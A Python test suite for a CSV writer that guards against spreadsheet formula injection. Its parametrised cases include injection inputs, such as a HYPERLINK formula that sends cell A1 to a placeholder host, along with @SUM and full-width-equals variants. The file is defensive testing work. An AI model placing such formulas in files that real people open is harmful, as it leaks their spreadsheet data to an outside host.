"""No cell of a file that we write is a formula to a spreadsheet; numbers and times stay what they are."""

import ast
import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import broadcast
from broadcast.csv_files import CsvWriter


def written(*cells: object, **options: bool) -> str:
    sink = io.StringIO()
    CsvWriter(sink, ["a"], **options).row(cells)  # type: ignore[arg-type]
    return sink.getvalue()


@pytest.mark.parametrize(
    ("cell", "kept"),
    [
        ('=HYPERLINK("http://a.example/?"&A1)', '\'=HYPERLINK("http://a.example/?"&A1)'),
        ("+84-1+1", "'+84-1+1"),
        ("-1", "'-1"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\uff1d1+1", "'\uff1d1+1"),
        (" \u00a0=1", "' \u00a0=1"),
        ("\tx", "'\tx"),
        ("\rx", "'\nx"),
        ("\nx", "'\nx"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("ok;=1+1", "ok;'=1+1"),  # one cell more where the semicolon parts them
        ("ok\n=1+1", "ok\n'=1+1"),
        ("ok, -1", "ok,' -1"),
        ("'=1", "'=1"),
        ("1=1", "1=1"),
        ("", ""),
        ("a-b;c", "a-b;c"),
        ("2026-03-01T08:00:00+00:00", "2026-03-01T08:00:00+00:00"),
    ],
)
def test_formulas(cell: str, kept: str) -> None:
    _, (found,) = csv.reader(io.StringIO(written(cell), newline=""))
    assert found == kept


def test_what_is_no_text_stays() -> None:
    at = datetime(2026, 3, 1, 8, tzinfo=UTC)
    assert written(-5, 84912345678, 1.5, None, at) == "a\n-5,84912345678,1.5,,2026-03-01T08:00:00+00:00\n"


def test_peoples_text_begins_with_a_bom() -> None:
    assert written("Bình", peoples_text=True) == "\ufeffa\nBình\n"
    sink = io.StringIO()
    CsvWriter(sink, (), peoples_text=True).row(["goes on"])
    assert sink.getvalue() == "goes on\n"


@given(st.text("=+-@,;\t\r\n\" 'a1", max_size=12), st.sampled_from(",;\t"))
def test_however_a_spreadsheet_parts_it(cell: str, delimiter: str) -> None:
    sink = io.StringIO()
    CsvWriter(sink, ["a"], delimiter=delimiter).row(["x", cell])
    for its in ",;\t":
        for row in csv.reader(io.StringIO(sink.getvalue(), newline=""), delimiter=its):
            assert not [each for each in row if each.lstrip()[:1] in ("=", "+", "-", "@") and each.strip()]


def test_every_csv_file_is_written_by_it() -> None:
    """So that no other cell can be one."""
    root = Path(broadcast.__file__).parent
    writers = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
        if isinstance(node.value, ast.Name) and node.value.id == "csv"
    }
    assert writers == {"csv_files.py"}
